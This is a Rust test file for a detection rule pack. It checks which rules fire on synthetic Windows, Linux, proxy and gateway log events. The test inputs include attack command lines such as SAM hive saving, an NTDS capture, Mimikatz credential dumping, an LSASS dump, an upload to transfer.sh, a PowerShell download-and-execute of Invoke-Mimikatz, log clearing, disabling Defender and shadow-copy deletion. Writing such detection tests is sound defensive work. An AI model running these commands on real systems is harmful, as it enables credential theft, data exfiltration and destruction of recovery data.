//! Rule by rule, on hand-made events: what each rule must and must not match. Windows
//! events are built with the field names the EVTX / XML / JSON readers give; Linux,
//! proxy and gateway lines go through the real readers, so the rules' field names are
//! checked against what the readers emit.

mod common;

use firebreak_event::{Event, Location, SourceKind, Timestamp};
use firebreak_readers::ReadOptions;
use firebreak_sigma::RuleSet;
use std::collections::BTreeSet;

const SYSMON: &str = "Microsoft-Windows-Sysmon/Operational";

fn win(channel: &str, id: u32, fields: &[(&str, &str)]) -> Event {
    let ts = Timestamp::parse_rfc3339("2026-11-24T02:30:00Z").expect("time");
    let mut e = Event::new(ts, SourceKind::Evtx, Location::Record(1));
    e.channel = Some(channel.to_string());
    e.event_id = Some(id.to_string());
    e.fields.push("EventID", id.to_string());
    e.fields.push("Channel", channel);
    e.fields.push("Computer", "WS-001.corp.local");
    for (k, v) in fields {
        e.fields.push(*k, *v);
    }
    e
}

/// A Sysmon process creation (event 1).
fn proc(image: &str, cmd: &str) -> Event {
    win(
        SYSMON,
        1,
        &[
            ("Image", image),
            ("CommandLine", cmd),
            ("ParentImage", "C:\\Windows\\System32\\cmd.exe"),
        ],
    )
}

/// Events of text log lines, read by the reader the sniffer picks.
fn text(name: &str, lines: &[&str]) -> Vec<Event> {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join(name);
    std::fs::write(&path, lines.join("\n") + "\n").expect("write log");
    let options = ReadOptions {
        syslog_year: Some(2026),
        ..ReadOptions::default()
    };
    let events = common::read_any(&path, &options).expect("format recognised");
    assert_eq!(events.len(), lines.len(), "{name}");
    events
}

fn fired(set: &RuleSet, e: &Event) -> BTreeSet<String> {
    set.matches(e)
        .iter()
        .map(|r| common::file_of(r).to_string())
        .collect()
}

/// `e` fires every rule of `want` and none of `not`.
#[track_caller]
fn check(set: &RuleSet, what: &str, e: &Event, want: &[&str], not: &[&str]) {
    let got = fired(set, e);
    for w in want {
        assert!(got.contains(*w), "{what}: {w} did not fire; fired {got:?}");
    }
    for n in not {
        assert!(!got.contains(*n), "{what}: {n} fired");
    }
}

#[test]
fn windows_process_creation_rules() {
    let set = common::pack();
    let cases: &[(&str, &str, &[&str], &[&str])] = &[
        (
            "C:\\Users\\Public\\svchost.exe",
            "svchost.exe copy D:\\Shares remote:bucket --transfers 16 --ignore-existing",
            &[
                "exfiltration/rclone_execution.yml",
                "execution/process_from_staging_folder.yml",
            ],
            &[],
        ),
        (
            "C:\\Windows\\System32\\reg.exe",
            "reg.exe save hklm\\sam C:\\ProgramData\\sam.save",
            &["credential_access/registry_hive_save.yml"],
            &[],
        ),
        (
            "C:\\Windows\\System32\\reg.exe",
            "reg.exe save HKLM\\SYSTEM\\CurrentControlSet\\Services\\Foo foo.hiv",
            &[],
            &["credential_access/registry_hive_save.yml"],
        ),
        (
            "C:\\Windows\\System32\\ntdsutil.exe",
            "ntdsutil.exe \"ac i ntds\" ifm \"create full c:\\temp\\ifm\" q q",
            &["credential_access/ntds_dit_theft.yml"],
            &[],
        ),
        (
            "C:\\Windows\\System32\\vssadmin.exe",
            "vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB",
            &["impact/vssadmin_delete_shadows.yml"],
            &[],
        ),
        (
            "C:\\Windows\\System32\\vssadmin.exe",
            "vssadmin list shadows",
            &[],
            &["impact/vssadmin_delete_shadows.yml"],
        ),
        (
            "C:\\Program Files\\7-Zip\\7z.exe",
            "7z.exe a -pS3cret -mhe=on C:\\ProgramData\\f.7z D:\\Finance",
            &["collection/archive_with_password.yml"],
            &[],
        ),
        (
            "C:\\Program Files\\7-Zip\\7z.exe",
            "7z.exe x invoice.7z -pS3cret",
            &[],
            &["collection/archive_with_password.yml"],
        ),
        (
            "C:\\Windows\\System32\\curl.exe",
            "curl.exe -T f.7z https://transfer.sh/f.7z",
            &["exfiltration/command_line_upload_tool.yml"],
            &[],
        ),
        (
            "C:\\Windows\\System32\\curl.exe",
            "curl.exe -o setup.exe https://example.com/setup.exe",
            &[],
            &["exfiltration/command_line_upload_tool.yml"],
        ),
        (
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
            &["execution/powershell_encoded_command.yml"],
            &[],
        ),
        (
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1",
            &[],
            &["execution/powershell_encoded_command.yml"],
        ),
        (
            "C:\\Windows\\System32\\netsh.exe",
            "netsh advfirewall set allprofiles state off",
            &["defense_evasion/firewall_disabled_or_opened.yml"],
            &[],
        ),
        (
            "C:\\Windows\\System32\\wevtutil.exe",
            "wevtutil.exe cl Security",
            &["defense_evasion/event_log_clear_command.yml"],
            &[],
        ),
        (
            "C:\\Windows\\System32\\sc.exe",
            "sc.exe stop WinDefend",
            &["defense_evasion/security_service_stopped.yml"],
            &[],
        ),
        (
            "C:\\Windows\\System32\\sc.exe",
            "sc.exe config LicenseManager start= disabled",
            &[],
            &["defense_evasion/security_service_stopped.yml"],
        ),
        (
            "C:\\Windows\\System32\\sc.exe",
            "sc.exe config SQLWriter start= disabled",
            &["impact/backup_service_stop_command.yml"],
            &[],
        ),
        (
            "C:\\Windows\\System32\\taskkill.exe",
            "taskkill.exe /f /im sqlservr.exe",
            &[
                "impact/taskkill_database_backup_processes.yml",
                "impact/taskkill_burst.yml",
            ],
            &[],
        ),
        (
            "C:\\Users\\Public\\m.exe",
            "m.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
            &["credential_access/mimikatz_command_line.yml"],
            &[],
        ),
        (
            "C:\\Tools\\procdump64.exe",
            "procdump64.exe -accepteula -ma lsass.exe C:\\ProgramData\\l.dmp",
            &["credential_access/lsass_dump_procdump.yml"],
            &[],
        ),
        (
            "C:\\Windows\\Temp\\{2E9C1B4A-6B1F-4C55-9A0E-3D6A1C2B7E10}\\DismHost.exe",
            "DismHost.exe {2E9C1B4A}",
            &[],
            &["execution/process_from_staging_folder.yml"],
        ),
        (
            "C:\\Users\\bob\\AppData\\Local\\MEGAsync\\MEGAsync.exe",
            "MEGAsync.exe",
            &["exfiltration/mega_client_execution.yml"],
            &[],
        ),
        (
            "C:\\Windows\\System32\\nltest.exe",
            "nltest /domain_trusts /all_trusts",
            &[
                "discovery/nltest_domain_discovery.yml",
                "discovery/discovery_command_burst.yml",
            ],
            &[],
        ),
        (
            "C:\\Windows\\System32\\net.exe",
            "net stop spooler",
            &[],
            &["discovery/discovery_command_burst.yml"],
        ),
        (
            "C:\\Windows\\System32\\bcdedit.exe",
            "bcdedit /set {default} bootstatuspolicy ignoreallfailures",
            &["impact/bcdedit_recovery_disabled.yml"],
            &[],
        ),
    ];
    for (image, cmd, want, not) in cases {
        check(&set, cmd, &proc(image, cmd), want, not);
    }
    // The Security 4688 twin of a process creation, with its own field names.
    let e4688 = win(
        "Security",
        4688,
        &[
            ("NewProcessName", "C:\\Windows\\System32\\vssadmin.exe"),
            ("CommandLine", "vssadmin.exe Delete Shadows /All /Quiet"),
            ("ParentProcessName", "C:\\Windows\\System32\\cmd.exe"),
        ],
    );
    check(
        &set,
        "4688",
        &e4688,
        &["impact/vssadmin_delete_shadows.yml"],
        &[],
    );
}

#[test]
fn windows_file_and_service_rules() {
    let set = common::pack();
    let file = |image: &str, target: &str| {
        win(SYSMON, 11, &[("Image", image), ("TargetFilename", target)])
    };
    let note = "impact/ransom_note_created.yml";
    let locker = "C:\\Windows\\Temp\\x.exe";
    for (target, hit) in [
        ("D:\\Shares\\HR\\README_RESTORE_FILES.txt", true),
        ("C:\\Users\\bob\\Desktop\\!!!_READ_ME_!!!.txt", true),
        ("C:\\Users\\bob\\Documents\\HOW_TO_DECRYPT.hta", true),
        ("C:\\Users\\bob\\Documents\\a1b2c3.README.txt", true),
        ("C:\\Users\\bob\\Documents\\README.txt", false),
        ("C:\\Program Files\\Tool\\README_FIRST.txt", false),
        (
            "C:\\Users\\bob\\Documents\\BitLocker Recovery Key 1A2B.TXT",
            false,
        ),
        ("C:\\Users\\bob\\Documents\\restore_points.xlsx", false),
    ] {
        let e = file(locker, target);
        let (want, not): (&[&str], &[&str]) = if hit { (&[note], &[]) } else { (&[], &[note]) };
        check(&set, target, &e, want, not);
    }
    let enc = "impact/mass_file_encryption.yml";
    check(
        &set,
        "encrypted",
        &file(locker, "D:\\Shares\\Q3.xlsx.lockx"),
        &[enc],
        &[],
    );
    check(
        &set,
        "saved as pdf",
        &file(locker, "D:\\Shares\\Q3.xlsx.pdf"),
        &[],
        &[enc],
    );
    check(
        &set,
        "plain",
        &file(locker, "D:\\Shares\\Q3.xlsx"),
        &[],
        &[enc],
    );

    let s4697 = win(
        "Security",
        4697,
        &[
            ("ServiceName", "PSEXESVC"),
            ("ServiceFileName", "%SystemRoot%\\PSEXESVC.exe"),
        ],
    );
    check(
        &set,
        "4697",
        &s4697,
        &["lateral_movement/psexec_service_installed_security.yml"],
        &[],
    );
    let s7045 = win(
        "System",
        7045,
        &[
            ("ServiceName", "BTOBTO"),
            (
                "ImagePath",
                "%COMSPEC% /Q /c echo whoami ^> \\\\127.0.0.1\\C$\\__output",
            ),
        ],
    );
    check(
        &set,
        "smbexec",
        &s7045,
        &["lateral_movement/suspicious_service_installed.yml"],
        &[],
    );
    let benign7045 = win(
        "System",
        7045,
        &[("ServiceName", "GoogleUpdater"), ("ImagePath", "\"C:\\Program Files\\Google\\GoogleUpdater\\updater.exe\" --system --windows-service")],
    );
    check(
        &set,
        "updater",
        &benign7045,
        &[],
        &["lateral_movement/suspicious_service_installed.yml"],
    );
    let stop = |name: &str| win("System", 7036, &[("param1", name), ("param2", "stopped")]);
    let svc = "impact/backup_service_stopped_event.yml";
    check(&set, "veeam", &stop("Veeam Backup Service"), &[svc], &[]);
    check(
        &set,
        "bits",
        &stop("Background Intelligent Transfer Service"),
        &[],
        &[svc],
    );
    let logon = |ip: &str| {
        win(
            "Security",
            4624,
            &[
                ("TargetUserName", "bob"),
                ("LogonType", "10"),
                ("IpAddress", ip),
            ],
        )
    };
    let (public, internal) = (
        "lateral_movement/rdp_logon_public.yml",
        "lateral_movement/rdp_logon_internal.yml",
    );
    check(
        &set,
        "rdp public",
        &logon("203.0.113.7"),
        &[public],
        &[internal],
    );
    check(
        &set,
        "rdp internal",
        &logon("10.1.2.3"),
        &[internal],
        &[public],
    );
    check(
        &set,
        "rdp no address",
        &logon("-"),
        &[],
        &[public, internal],
    );
    let defender = win("Microsoft-Windows-Windows Defender/Operational", 5001, &[]);
    check(
        &set,
        "5001",
        &defender,
        &["defense_evasion/defender_protection_disabled_event.yml"],
        &[],
    );
    let script = win(
        "Microsoft-Windows-PowerShell/Operational",
        4104,
        &[("ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('http://x/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -DumpCreds")],
    );
    check(
        &set,
        "4104",
        &script,
        &["credential_access/mimikatz_powershell_script.yml"],
        &[],
    );
}

#[test]
fn linux_auth_rules_use_the_authlog_readers_fields() {
    let set = common::pack();
    let ev = text(
        "auth.log",
        &[
            "Nov 24 02:10:01 jump01 sshd[811]: Accepted password for root from 203.0.113.5 port 40222 ssh2",
            "Nov 24 02:10:02 jump01 sshd[812]: Accepted publickey for bob from 10.0.0.5 port 40223 ssh2: ED25519 SHA256:abc",
            "Nov 24 02:10:03 jump01 sudo:      bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash",
            "Nov 24 02:10:04 jump01 sudo:      bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/apt-get update",
            "Nov 24 02:10:05 jump01 sshd[813]: Failed password for invalid user admin from 203.0.113.5 port 40224 ssh2",
        ],
    );
    let (public, root, shell, sudo, failed) = (
        "initial_access/ssh_login_from_public_address.yml",
        "initial_access/ssh_root_login.yml",
        "privilege_escalation/sudo_root_shell.yml",
        "privilege_escalation/sudo_to_root.yml",
        "credential_access/ssh_failed_login_burst.yml",
    );
    check(&set, "root from outside", &ev[0], &[public, root], &[]);
    check(&set, "bob inside", &ev[1], &[], &[public, root]);
    check(&set, "sudo bash", &ev[2], &[shell, sudo], &[]);
    check(&set, "sudo apt", &ev[3], &[sudo], &[shell]);
    check(&set, "failed", &ev[4], &[failed], &[public]);
}

#[test]
fn proxy_and_gateway_rules_use_the_readers_fields() {
    let set = common::pack();
    let ev = text(
        "access.log",
        &[
            "1795400000.123    245 10.0.2.21 TCP_MISS/200 5123 POST http://transfer.sh/upload - HIER_DIRECT/144.76.136.153 text/plain",
            "1795400001.123    245 10.0.2.21 TCP_TUNNEL/200 81234 CONNECT mega.nz:443 bob HIER_DIRECT/31.216.144.5 -",
            "1795400002.123      0 10.0.2.21 TCP_DENIED/403 3950 CONNECT www.wetransfer.com:443 bob HIER_NONE/- text/html",
            "1795400003.123 900000 10.0.0.20 TCP_TUNNEL/200 9123456789 CONNECT s3.eu-central-003.backblazeb2.com:443 svc_backup HIER_DIRECT/149.137.128.1 -",
        ],
    );
    let upload = "exfiltration/proxy_file_sharing_upload.yml";
    check(&set, "transfer.sh", &ev[0], &[upload], &[]);
    check(&set, "mega", &ev[1], &[upload], &[]);
    check(&set, "denied", &ev[2], &[], &[upload]);
    check(&set, "backup", &ev[3], &[], &[upload]);

    let ns = text(
        "ns.log",
        &[
            "<134> 11/24/2026:02:10:01 GMT ns01 0-PPE-0 : default AAA LOGIN_FAILED 96001 0 : User bob - Client_ip 203.0.113.9 - Failure_reason \"Invalid credentials\" - Browser_type \"x\"",
            "<134> 11/24/2026:02:11:01 GMT ns01 0-PPE-0 : default SSLVPN LOGIN 96002 0 : Context bob@203.0.113.9 - SessionId: 5 - User bob - Client_ip 203.0.113.9 - Nat_ip \"Mapped Ip\" - Vserver 10.0.0.9:443 - Browser_type \"x\" - SSLVPN_client_type Agent - Group(s) \"Staff\"",
        ],
    );
    check(
        &set,
        "login failed",
        &ns[0],
        &["initial_access/netscaler_login_failed_burst.yml"],
        &["initial_access/netscaler_gateway_login.yml"],
    );
    check(
        &set,
        "login",
        &ns[1],
        &["initial_access/netscaler_gateway_login.yml"],
        &["initial_access/netscaler_login_failed_burst.yml"],
    );
}
